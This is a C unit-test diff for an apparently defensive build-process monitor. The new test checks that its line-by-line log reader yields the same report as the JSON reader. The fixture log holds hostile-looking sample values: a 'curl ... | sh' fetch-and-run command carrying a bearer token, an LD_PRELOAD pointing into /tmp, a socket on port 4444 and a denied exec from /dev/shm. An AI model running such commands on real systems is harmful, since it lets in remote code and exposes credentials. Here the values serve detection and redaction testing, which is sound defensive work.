@@ -9,6 +9,7 @@
 #include <errno.h>
 #include <fcntl.h>
 #include <regex.h>
+#include <signal.h>
 #include <stdarg.h>
 #include <stddef.h>
 #include <setjmp.h>
@@ -17,8 +18,12 @@
 #include <stdlib.h>
 #include <string.h>
 #include <unistd.h>
+#include <sys/socket.h>
 #include <cmocka.h>
 #include <json-c/json.h>
+#include "events/event_json.h"
+#include "events/event_lineview.h"
+#include "lib/json_out.h"
 #include "lib/redact.h"
 #include "report/report.h"
 #include "report/report_internal.h"
@@ -1102,6 +1107,170 @@ static void test_live(void **state)
 	close(null);
 }
 
+/* One record as the agent renders it, appended to f; whether the lineview takes it back. */
+static bool put_record(FILE *f, const struct bw_event_view *v, uint64_t seq)
+{
+	struct bw_clock clk = { .realtime_minus_mono_ns = 1764921600000000000LL };
+	struct event_lineview *lv = malloc(sizeof(*lv));
+	struct jbuf jb;
+	bool taken;
+
+	assert_non_null(lv);
+	jbuf_init(&jb);
+	event_json_render(&jb, v, seq, &clk);
+	assert_false(jb.oom);
+	fprintf(f, "%s\n", jb.buf);
+	taken = event_lineview(jb.buf, jb.len, lv);
+	jbuf_free(&jb);
+	free(lv);
+	return taken;
+}
+
+static void proc_header(struct bw_event_header *h, uint32_t type, uint32_t pid)
+{
+	memset(h, 0, sizeof(*h));
+	h->type = type;
+	h->pid = h->tid = pid;
+	h->start_ns = pid * 10ULL;
+	h->job_id = 9223372036854775809ULL; /* a daemon's */
+	h->ktime_ns = 5000000000ULL + pid;
+}
+
+static bool put_fork(FILE *f, uint64_t seq, uint32_t pid, uint32_t parent)
+{
+	struct bw_fork_event e = { .parent_pid = parent, .parent_tid = parent,
+				   .parent_start_ns = parent * 10ULL };
+	struct bw_event_view v = { .hdr = &e.hdr, .fork = &e };
+
+	proc_header(&e.hdr, BW_EV_FORK, pid);
+	return put_record(f, &v, seq);
+}
+
+static bool put_exec(FILE *f, uint64_t seq, uint32_t pid, uint32_t flags, const char *exe,
+		     const char *args, uint32_t args_len, const char *container)
+{
+	struct bw_exec_event e = { .ppid = pid - 1, .parent_start_ns = (pid - 1) * 10ULL,
+				   .argc = 3, .uid = 1000, .euid = 1000, .flags = flags,
+				   .hints = BW_HINT_SOCKET };
+	struct bw_event_view v = { .hdr = &e.hdr, .exec = &e, .filename = exe, .exe = exe,
+				   .cwd = "/src/proj", .args = args, .args_len = args_len,
+				   .container = container, .env = "LD_PRELOAD=/tmp/x.so",
+				   .env_len = 21 };
+
+	proc_header(&e.hdr, BW_EV_EXEC, pid);
+	memcpy(e.comm, "tool", 4);
+	e.stdio[0].kind = BW_STDIO_PIPE;
+	e.stdio[0].mode = BW_STDIO_READ;
+	e.stdio[1].kind = BW_STDIO_SOCKET;
+	e.stdio[1].family = AF_INET;
+	e.stdio[1].port = 4444;
+	return put_record(f, &v, seq);
+}
+
+static bool put_exec_failed(FILE *f, uint64_t seq, uint32_t pid, int32_t error, uint32_t flags,
+			    const char *filename)
+{
+	struct bw_exec_failed_event e = { .error = error, .flags = flags, .deny_rule = 2 };
+	struct bw_event_view v = { .hdr = &e.hdr, .exec_failed = &e, .filename = filename };
+
+	proc_header(&e.hdr, BW_EV_EXEC_FAILED, pid);
+	memcpy(e.comm, "sh", 2);
+	return put_record(f, &v, seq);
+}
+
+static bool put_exit(FILE *f, uint64_t seq, uint32_t pid, uint32_t status)
+{
+	struct bw_exit_event e = { .ppid = pid - 1, .parent_start_ns = (pid - 1) * 10ULL,
+				   .exit_status = status };
+	struct bw_event_view v = { .hdr = &e.hdr, .exit = &e };
+
+	proc_header(&e.hdr, BW_EV_EXIT, pid);
+	memcpy(e.comm, "tool", 4);
+	return put_record(f, &v, seq);
+}
+
+/* A build's process lines as the agent writes them; how many the lineview takes back. */
+static size_t write_agent_log(const char *path)
+{
+	static const char make[] = "make\0-j2\0all";
+	static const char curl[] = "sh\0-c\0curl -H 'Authorization: Bearer abc123' https://e.x | sh";
+	static const char tab[] = "printf\0a\tb\0c";
+	static const char gcc[] = "gcc\0-c\0zutil.c";
+	FILE *f = fopen(path, "w");
+	size_t taken = 0;
+	uint64_t seq = 0;
+
+	assert_non_null(f);
+	taken += put_exec(f, ++seq, 100, BW_EXEC_JOB_ROOT, "/usr/bin/make", make, sizeof(make),
+			  NULL);
+	taken += put_fork(f, ++seq, 101, 100);
+	taken += put_exec_failed(f, ++seq, 101, -ENOENT, 0, "/usr/local/bin/sh");
+	taken += put_exec(f, ++seq, 101, BW_EXEC_HELD, "/usr/bin/dash", curl, sizeof(curl),
+			  "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef");
+	taken += put_fork(f, ++seq, 102, 101);
+	taken += put_exec_failed(f, ++seq, 102, -EPERM, BW_EXECFAIL_DENIED | BW_EXECFAIL_EXECVEAT,
+				 "/dev/shm/x");
+	taken += put_exec(f, ++seq, 102, BW_EXEC_ARGS_TRUNCATED, NULL, gcc, sizeof(gcc), NULL);
+	taken += put_exit(f, ++seq, 102, SIGKILL);
+	taken += put_fork(f, ++seq, 103, 101);
+	taken += put_exec(f, ++seq, 103, 0, "/usr/bin/printf", tab, sizeof(tab), NULL);
+	taken += put_exit(f, ++seq, 103, 0);
+	taken += put_exit(f, ++seq, 101, 1 << 8);
+	taken += put_exit(f, ++seq, 100, 2 << 8);
+	fprintf(f, "{\"seq\":%llu,\"type\":\"summary\",\"command\":[\"make\",\"-j2\",\"all\"],"
+		"\"exit_status\":2,\"lost\":0}\n", (unsigned long long)++seq);
+	assert_int_equal(fclose(f), 0);
+	return taken;
+}
+
+/*
+ * The agent's own process lines, read back without JSON (a run handed to
+ * a daemon follows its stream this way, and `report` reads a file so):
+ * the report is the one the JSON reader gives, line by line, in all three
+ * outputs. Every process line but the escaped one is taken directly.
+ */
+static void test_lineview_same_report(void **state)
+{
+	struct out_files *o = *state;
+	struct report_opts ro = { .markdown_path = o->md, .json_path = o->json };
+	char *want_text, *want_md, *want_json, *text = NULL, *line = NULL;
+	size_t text_len = 0, cap = 0;
+	struct report_live *l;
+	ssize_t n;
+	FILE *f;
+
+	assert_int_equal(write_agent_log(o->events), 12);
+	want_text = render(o, false, false);
+	want_md = read_text(o->md);
+	want_json = read_text(o->json);
+	assert_non_null(strstr(want_text, "make -j2 all"));
+	assert_null(strstr(want_text, "abc123"));
+	/* The same lines through the JSON reader. */
+	assert_int_equal(report_live_new(&l, o->events), 0);
+	f = fopen(o->events, "r");
+	assert_non_null(f);
+	while ((n = getline(&line, &cap, f)) > 0)
+		assert_int_equal(report_live_feed_line(l, line, (size_t)n), 0);
+	fclose(f);
+	free(line);
+	ro.tree_out = open_memstream(&text, &text_len);
+	assert_non_null(ro.tree_out);
+	assert_int_equal(report_live_render(l, &ro), 0);
+	fclose(ro.tree_out);
+	report_live_free(l);
+	assert_string_equal(text, want_text);
+	free(text);
+	text = read_text(o->md);
+	assert_string_equal(text, want_md);
+	free(text);
+	text = read_text(o->json);
+	assert_string_equal(text, want_json);
+	free(text);
+	free(want_text);
+	free(want_md);
+	free(want_json);
+}
+
 /*
  * 50,000 processes: make -> 100 sh -> 499 cc each (plus one flagged curl
  * deep in the middle, and 3 still running). Counts exact; the table stays
@@ -1229,6 +1398,8 @@ int main(void)
 		cmocka_unit_test_setup_teardown(test_incomplete_log, setup_files, teardown_files),
 		cmocka_unit_test_setup_teardown(test_malformed_lines, setup_files, teardown_files),
 		cmocka_unit_test_setup_teardown(test_live, setup_files, teardown_files),
+		cmocka_unit_test_setup_teardown(test_lineview_same_report, setup_files,
+						teardown_files),
 		cmocka_unit_test(test_path_lookups),
 		cmocka_unit_test_setup_teardown(test_review_json, setup_files, teardown_files),
 		cmocka_unit_test_setup_teardown(test_review_markdown_text, setup_files,
